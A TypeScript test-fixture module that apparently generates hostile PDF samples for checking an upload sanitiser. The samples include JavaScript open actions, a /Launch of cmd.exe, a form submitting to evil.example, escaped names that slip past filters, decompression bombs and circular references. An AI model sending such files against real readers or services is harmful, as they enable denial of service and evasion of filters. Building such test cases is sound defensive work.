import { deflateSync } from 'node:zlib';
import { PDFDocument, PDFName, PDFString } from 'pdf-lib';
import sharp from 'sharp';
import type { Hostile } from './hostile-pictures.ts';
import { jpegWith, MARKER } from './picture-bytes.ts';

/** A PDF file of these objects; the first is the catalogue. */
function pdf(objects: (string | Buffer)[], trailer = ''): Buffer {
  const parts = objects.map((object, at) =>
    Buffer.concat([Buffer.from(`${at + 1} 0 obj\n`), Buffer.from(object), Buffer.from('\nendobj\n')]),
  );
  return Buffer.concat([
    Buffer.from('%PDF-1.7\n'),
    ...parts,
    Buffer.from(`trailer\n<< /Root 1 0 R /Size ${objects.length + 1} ${trailer} >>\nstartxref\n0\n%%EOF\n`),
  ]);
}

function stream(dictionary: string, data: Buffer): Buffer {
  return Buffer.concat([
    Buffer.from(`<< ${dictionary} /Length ${data.length} >>\nstream\n`),
    data,
    Buffer.from('\nendstream'),
  ]);
}

const PAGES = '<< /Type /Pages /Kids [3 0 R] /Count 1 >>';
const PAGE = '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>';
const catalog = (more: string) => `<< /Type /Catalog /Pages 2 0 R ${more} >>`;

/** Documents with active or embedded content. */
function active(): [string, Buffer][] {
  const script = `<< /S /JavaScript /JS (app.alert("${MARKER}")) >>`;
  return [
    ['script-on-opening', pdf([catalog(`/OpenAction ${script}`), PAGES, PAGE])],
    [
      'script-by-name',
      pdf([catalog('/Names << /JavaScript << /Names [(a) 4 0 R] >> >>'), PAGES, PAGE, script]),
    ],
    ['script-escaped-name', pdf([catalog('/OpenAction << /S /Java#53cript /J#53 (1) >>'), PAGES, PAGE])],
    ['launch', pdf([catalog('/OpenAction << /S /Launch /F (cmd.exe) >>'), PAGES, PAGE])],
    ['page-action', pdf([catalog(''), PAGES, PAGE.replace('>>', `/AA << /O ${script} >> >>`)])],
    [
      'embedded-file',
      pdf([
        catalog('/Names << /EmbeddedFiles << /Names [(a) << /EF << /F 4 0 R >> >>] >> >>'),
        PAGES,
        PAGE,
        stream('', Buffer.from(MARKER)),
      ]),
    ],
    [
      'form-sends',
      pdf([
        catalog('/AcroForm << /Fields [4 0 R] >>'),
        PAGES,
        PAGE,
        '<< /FT /Btn /T (a) /A << /S /SubmitForm /F (https://evil.example) >> >>',
      ]),
    ],
    ['xfa-form', pdf([catalog('/AcroForm << /XFA (x) /Fields [] >>'), PAGES, PAGE])],
    [
      'rich-media',
      pdf([
        catalog(''),
        PAGES,
        PAGE.replace('>>', '/Annots [<< /Subtype /RichMedia /RichMediaContent << >> >>] >>'),
      ]),
    ],
  ];
}

/** Documents that take a reader's time or memory. */
function bombs(): [string, Buffer][] {
  const zeros = deflateSync(Buffer.alloc(200_000_000, '0 '), { level: 9 });
  const deep = '['.repeat(200_000);
  return [
    [
      'object-stream-bomb',
      pdf([catalog(''), PAGES, PAGE, stream('/Type /ObjStm /N 100 /First 800 /Filter /FlateDecode', zeros)]),
    ],
    [
      'object-stream-bomb-escaped',
      pdf([
        catalog(''),
        PAGES,
        PAGE,
        stream('/Type /Obj#53tm /N 100 /First 800 /Filter /FlateDecode', zeros),
      ]),
    ],
    [
      'object-stream-packed-twice',
      pdf([
        catalog(''),
        PAGES,
        PAGE,
        stream('/Type /ObjStm /N 9 /First 9 /Filter [/FlateDecode /FlateDecode]', deflateSync(zeros)),
      ]),
    ],
    [
      'cross-reference-bomb',
      pdf([catalog(''), PAGES, PAGE, stream('/Type /XRef /W [1 2 2] /Size 9 /Filter /FlateDecode', zeros)]),
    ],
    [
      'stream-behind-comment',
      pdf([
        catalog(''),
        PAGES,
        PAGE,
        Buffer.concat([
          Buffer.from('null\nendobj\n% stream\n5 0 obj\n'),
          stream('/Type /ObjStm /N 9 /First 9 /Filter /FlateDecode', zeros),
        ]),
      ]),
    ],
    ['nested-arrays', pdf([catalog(`/X ${deep}`), PAGES, PAGE])],
    ['very-many-objects', pdf([catalog(''), PAGES, PAGE, ...Array.from({ length: 200_000 }, () => '0')])],
    ['very-many-numbers', pdf([catalog(`/X [${'1 '.repeat(4_000_000)}]`), PAGES, PAGE])],
    ['pages-in-a-circle', pdf([catalog(''), '<< /Type /Pages /Kids [2 0 R] /Count 1 >>'])],
    [
      'parent-in-a-circle',
      pdf([catalog(''), '<< /Type /Pages /Kids [3 0 R] /Parent 2 0 R /Count 1 >>', PAGE]),
    ],
    ['references-in-a-circle', pdf([catalog('/Names 4 0 R'), PAGES, PAGE, '5 0 R', '4 0 R'])],
    [
      'cross-reference-loop',
      Buffer.concat([
        pdf([catalog(''), '<< >>'], '/Prev 0'),
        Buffer.from('xref\n0 1\n0000000000 65535 f \ntrailer << /Prev 9 /Root 1 0 R >>\nstartxref\n9\n%%EOF'),
      ]),
    ],
    [
      'thousand-pages',
      pdf([catalog(''), `<< /Type /Pages /Kids [${'3 0 R '.repeat(1_000)}] /Count 1000 >>`, PAGE]),
    ],
  ];
}

/** A brochure from an office program: a photograph, a link, metadata, an attachment. */
async function carrying(): Promise<Buffer> {
  const made = await PDFDocument.create();
  made.setAuthor(MARKER);
  made.setTitle(MARKER);
  const photo = await sharp({ create: { width: 60, height: 40, channels: 3, background: '#0d5c4d' } })
    .withExif({ IFD0: { Artist: MARKER }, IFD3: { GPSLatitude: '53/1 20/1 0/1' } })
    .jpeg()
    .toBuffer();
  const page = made.addPage([200, 200]);
  page.drawImage(await made.embedJpg(new Uint8Array(jpegWith(photo, 0xfe, Buffer.from(MARKER)))), {
    x: 0,
    y: 0,
  });
  const described = made.context.register(
    made.context.flateStream(`<x:xmpmeta>${MARKER}</x:xmpmeta>`, { Type: 'Metadata', Subtype: 'XML' }),
  );
  made.catalog.set(PDFName.of('Metadata'), described);
  page.node.set(PDFName.of('PieceInfo'), made.context.obj({ Secret: PDFString.of(MARKER) }));
  page.node.set(PDFName.of('Metadata'), described);
  const bytes = await made.save({ useObjectStreams: false });
  return Buffer.concat([bytes, Buffer.from(`PK\x03\x04${MARKER}`)]);
}

/** @returns documents that must be refused or reduced to their pages */
export async function hostileBrochures(): Promise<Hostile[]> {
  const brochure = (name: string, bytes: Buffer, expect: Hostile['expect']): Hostile => ({
    name: `pdf-${name}`,
    kind: 'brochure',
    bytes,
    fileName: 'brochure.pdf',
    contentType: 'application/pdf',
    expect,
  });
  const plain = pdf([catalog(''), PAGES, PAGE]);
  return [
    ...active().map(([name, bytes]) => brochure(name, bytes, ['active'])),
    ...bombs().map(([name, bytes]) =>
      brochure(name, bytes, ['taken', 'too-complex', 'damaged', 'active', 'too-many-pages']),
    ),
    brochure('carrying', await carrying(), 'taken'),
    brochure('encrypted', pdf([catalog(''), PAGES, PAGE], '/Encrypt << /Filter /Standard /V 1 /R 2 >>'), [
      'encrypted',
    ]),
    brochure('truncated', plain.subarray(0, 40), ['damaged']),
    brochure('without-pages', pdf([catalog('')]), ['damaged']),
    brochure('nothing', Buffer.alloc(0), ['empty']),
    brochure('html', Buffer.from('<html><script>alert(1)</script>'), ['not-a-brochure']),
    brochure('behind-html', Buffer.concat([Buffer.from('<html>'), plain]), ['not-a-brochure']),
    brochure(
      'picture',
      await sharp({ create: { width: 9, height: 9, channels: 3, background: '#fff' } })
        .png()
        .toBuffer(),
      ['not-a-brochure'],
    ),
  ];
}
